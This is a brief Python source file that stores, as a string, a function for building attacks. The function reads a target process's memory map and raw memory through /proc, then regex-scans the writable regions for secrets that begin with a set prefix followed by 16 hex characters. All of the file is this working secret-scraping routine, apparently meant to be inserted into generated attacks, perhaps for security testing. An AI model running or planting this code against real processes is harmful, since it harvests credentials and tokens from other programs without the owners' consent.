"""The text of a search through a process's memory, for the attacks that make one."""

SEARCH = """
import re


def secrets_of(process):
    pattern, found = re.compile(TARGET.prefix.encode() + rb"[0-9a-f]{16}"), []
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and end - start < 64 << 20:
                memory.seek(start)
                try:
                    found += pattern.findall(memory.read(end - start))
                except OSError:
                    continue
    return b" ".join(found).decode()
"""
